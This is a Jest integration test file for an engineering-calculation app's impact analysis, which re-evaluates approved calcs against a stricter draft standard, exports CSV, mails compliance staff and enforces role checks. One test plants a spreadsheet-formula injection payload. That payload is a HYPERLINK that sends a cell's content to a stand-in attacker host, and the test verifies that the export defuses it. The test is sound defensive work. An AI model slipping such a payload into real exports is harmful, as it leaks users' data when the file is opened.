import { Op } from 'sequelize';
import { Calc, MailOutbox } from '../../server/db/models';
import { startTestApp, TEST_PASSWORD, expectStatus, person } from '../support/api-harness';
import { advanceTo, createCalc, workflowStandardId, type Team } from '../support/calc-harness';
import { auditOf } from '../support/audit-harness';
import { testStandard, withParameter } from '../support/standard-harness';

const { app, sequelize } = startTestApp();
afterAll(() => sequelize.close());

interface ImpactRowView {
  calcId: number;
  revision: string;
  before: string;
  after: string;
  clauses: { clauseId: string; before: string; after: string }[];
}

/**
 * A test standard in effect with one approved calc that passes it, one calc of it still in draft,
 * an approved calc under another standard, and a compliance draft of the next version that
 * lowers the allowable shear stress (0.30·Sy → 0.03·Sy) so the approved calc would fail clause 4.1.
 */
async function stricterDraftWithCalcs(
  change = (doc: Record<string, unknown>) => withParameter(doc, 'asmeSyFraction', 0.03),
) {
  const standard = await testStandard();
  const author = await person(app, ['author']);
  const team: Team = {
    author: author.session,
    checker: (await person(app, ['checker'])).session,
    approver: (await person(app, ['approver'])).session,
  };
  const approved = await createCalc(author.session, { ruleSetId: standard.id });
  await advanceTo('approved', team, approved.revisionId);
  const draftCalc = await createCalc(author.session, { ruleSetId: standard.id });
  const otherStandard = await createCalc(author.session, { ruleSetId: await workflowStandardId() });
  await advanceTo('approved', team, otherStandard.revisionId);
  const drafter = await person(app, ['compliance'], 'drafter');
  const draft = expectStatus(await drafter.session.post('/api/rule-sets', { fromId: standard.id }), 201, 'draft').body;
  const saved = expectStatus(
    await drafter.session.put(`/api/rule-sets/${draft.id}`, {
      document: { ...change(draft.document), changeSummary: 'Allowable shear lowered for a test' },
      lockVersion: draft.lockVersion,
    }),
    200,
    'save',
  ).body;
  return { standard, author, team, approved, draftCalc, otherStandard, drafter, draft: saved };
}

describe('impact analysis', () => {
  it('when a stricter draft would fail an approved calc, then that calc is listed with the clause that changes, and no other calc is', async () => {
    // Arrange
    const s = await stricterDraftWithCalcs();

    // Act
    const res = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact`);

    // Assert
    expect(res.status).toBe(200);
    expect(res.body.ruleSet).toEqual({ id: s.draft.id, code: s.standard.code, version: 2 });
    expect(res.body.rows).toEqual([
      expect.objectContaining({
        calcId: s.approved.calcId,
        revisionId: s.approved.revisionId,
        projectCode: s.approved.project.code,
        revision: 'A',
        before: 'compliant',
        after: 'not-compliant',
      }),
    ]);
    const row = res.body.rows[0] as ImpactRowView;
    expect(row.clauses).toEqual(
      expect.arrayContaining([expect.objectContaining({ clauseId: '4.1', before: 'pass', after: 'fail' })]),
    );
    // Only approved calcs checked against this standard are re-evaluated: not drafts, not other standards.
    expect([res.body.evaluated, res.body.changed]).toEqual([1, 1]);
  });

  it('when the impact is exported as CSV, then it has a header row and one row per calc whose verdict changes', async () => {
    // Arrange
    const s = await stricterDraftWithCalcs();

    // Act
    const res = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact.csv`);

    // Assert
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`attachment; filename="?impact-${s.draft.id}\\.csv"?$`),
    );
    // The header comes first; after a blank line, the summary and the caution close the file.
    const [header, ...rest] = res.text.split('\r\n');
    const rows = rest.slice(0, rest.indexOf(''));
    const [summary, caution] = rest.slice(rest.indexOf('') + 1);
    expect(header).toBe(
      '"project","calc","title","revision","approved at (UTC, ISO 8601)","verdict before","verdict after","clauses that change (count)","clauses that change"',
    );
    expect(summary).toBe(`"1 approved revisions re-evaluated under ${s.standard.code} v2; 1 change verdict"`);
    expect(caution).toMatch(/never replace, the judgement of a qualified engineer/);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatch(
      new RegExp(
        `^"${s.approved.project.code}","${s.approved.calc.number}","Test head shaft","A","\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z","compliant","not-compliant",\\d+,".*4\\.1 .*pass→fail`,
      ),
    );
  });

  it('when a calc title is a spreadsheet formula, then the CSV cell starts with a single quote and stays text', async () => {
    // Arrange: titles are people's words; a hostile one must not run when compliance opens the file.
    const s = await stricterDraftWithCalcs();
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open me")';
    await Calc.update({ title: hostile }, { where: { id: s.approved.calcId } });

    // Act
    const res = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact.csv`);

    // Assert
    const row = res.text.split('\r\n')[1];
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open me"")",`);
    expect(row).not.toMatch(/,"?=/);
  });

  it('when a draft changes nothing that matters, then no calc is listed and the CSV has its header only', async () => {
    // Arrange
    const s = await stricterDraftWithCalcs((doc) => doc);

    // Act
    const report = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact`);
    const csv = await s.drafter.session.get(`/api/rule-sets/${s.draft.id}/impact.csv`);

    // Assert
    expect([report.body.evaluated, report.body.changed, report.body.rows]).toEqual([1, 0, []]);
    // Header, a blank separator, then the summary and the caution (each line ends in CRLF): no data rows.
    expect(csv.text.split('\r\n')).toHaveLength(5);
  });

  it.each(['author', 'checker', 'approver', 'admin'] as const)(
    'when someone with the %s role asks for the impact, then it is refused with 403',
    async (role) => {
      // Arrange
      const standard = await testStandard();
      const someone = await person(app, [role]);

      // Act
      const res = await someone.session.get(`/api/rule-sets/${standard.id}/impact`);
      const csv = await someone.session.get(`/api/rule-sets/${standard.id}/impact.csv`);

      // Assert
      expect([res.status, csv.status]).toEqual([403, 403]);
      expect(res.body.message).toBe('Impact analysis is for compliance');
    },
  );
});

describe('impact when a version takes effect', () => {
  async function confirm(s: Awaited<ReturnType<typeof stricterDraftWithCalcs>>) {
    const p = expectStatus(
      await s.drafter.session.post(`/api/rule-sets/${s.draft.id}/propose`, {
        effectiveDate: '2026-11-01',
        lockVersion: s.draft.lockVersion,
      }),
      200,
      'propose',
    ).body;
    const confirmer = await person(app, ['compliance'], 'confirmer');
    expectStatus(
      await confirmer.session.post(`/api/rule-sets/${s.draft.id}/confirm`, {
        password: TEST_PASSWORD,
        lockVersion: p.lockVersion,
      }),
      200,
      'confirm',
    );
    return confirmer;
  }
  const impactMail = (code: string) =>
    MailOutbox.findAll({ where: { event: 'impact', subject: { [Op.like]: `${code} v2 %` } } });

  it('when a confirmed version changes the verdict of an approved calc, then every compliance user gets an impact mail and it is audited', async () => {
    // Arrange
    const s = await stricterDraftWithCalcs();

    // Act
    const confirmer = await confirm(s);

    // Assert
    const mails = await impactMail(s.standard.code);
    expect(mails.map((m) => m.recipient)).toEqual(expect.arrayContaining([s.drafter.email, confirmer.email]));
    expect(mails.map((m) => m.recipient)).not.toContain(s.author.email);
    expect(mails[0].subject).toBe(`${s.standard.code} v2 changes the verdict of 1 approved calc(s)`);
    expect(mails[0].body).toContain(
      `${s.approved.project.code} ${s.approved.calc.number} rev A: compliant → not-compliant`,
    );
    expect((await auditOf('RuleSet', s.draft.id)).map((e) => e.action)).toEqual(
      expect.arrayContaining(['rule_set.effective', 'rule_set.impact_notified']),
    );
  });

  it('when a confirmed version changes no verdict, then no impact mail is queued', async () => {
    // Arrange
    const s = await stricterDraftWithCalcs((doc) => doc);

    // Act
    await confirm(s);

    // Assert
    expect(await impactMail(s.standard.code)).toEqual([]);
    expect((await auditOf('RuleSet', s.draft.id)).map((e) => e.action)).not.toContain('rule_set.impact_notified');
  });
});

describe('impact analysis at a limit (issue 9, item 4)', () => {
  // docs/references.md C-18: n_y = 2 by construction, 1.9999999999999996 in double precision. The
  // comparison tolerance (shared/rules/limit-tolerance.ts) is common practice, no source.
  const T = (530 * Math.PI * 50 ** 3) / (32 * Math.sqrt(3)) / 1000;
  const atLimit = (scale = 1) => ({
    units: 'SI',
    material: { name: 'AISI 1045 CD', kind: 'steel', E: 207, G: 79.3, Sy: 530, Su: 630 },
    segments: [{ length: 1000, od: 50, id: 0 }],
    torques: [
      { at: 0, T: T * scale },
      { at: 1000, T: -T * scale },
    ],
  });

  it("when a draft raises the minimum yield safety to exactly an approved calc's value, then that calc keeps its verdict; one 1e-6 below changes", async () => {
    // Arrange: a standard of the yield clause alone at minimum 1.5, two approved calcs, a draft at minimum 2.
    const standard = await testStandard((doc) => {
      doc.clauses = (doc.clauses as { id: string }[]).filter((c) => c.id === '5.1');
      doc.parameters = withParameter(doc, 'minYieldSafety', 1.5).parameters;
    });
    const author = await person(app, ['author']);
    const team: Team = {
      author: author.session,
      checker: (await person(app, ['checker'])).session,
      approver: (await person(app, ['approver'])).session,
    };
    const exact = await createCalc(author.session, { ruleSetId: standard.id, input: atLimit() });
    const below = await createCalc(author.session, { ruleSetId: standard.id, input: atLimit(1 + 1e-6) });
    await advanceTo('approved', team, exact.revisionId);
    await advanceTo('approved', team, below.revisionId);
    const drafter = await person(app, ['compliance'], 'drafter');
    const draft = expectStatus(
      await drafter.session.post('/api/rule-sets', { fromId: standard.id }),
      201,
      'draft',
    ).body;
    expectStatus(
      await drafter.session.put(`/api/rule-sets/${draft.id}`, {
        document: {
          ...withParameter(draft.document, 'minYieldSafety', 2),
          changeSummary: 'Yield minimum raised to 2 for a test',
        },
        lockVersion: draft.lockVersion,
      }),
      200,
      'save',
    );

    // Act
    const res = await drafter.session.get(`/api/rule-sets/${draft.id}/impact`);

    // Assert
    expect(res.status).toBe(200);
    expect([res.body.evaluated, res.body.changed]).toEqual([2, 1]);
    expect(res.body.rows).toEqual([
      expect.objectContaining({ calcId: below.calcId, before: 'compliant', after: 'not-compliant' }),
    ]);
  });
});
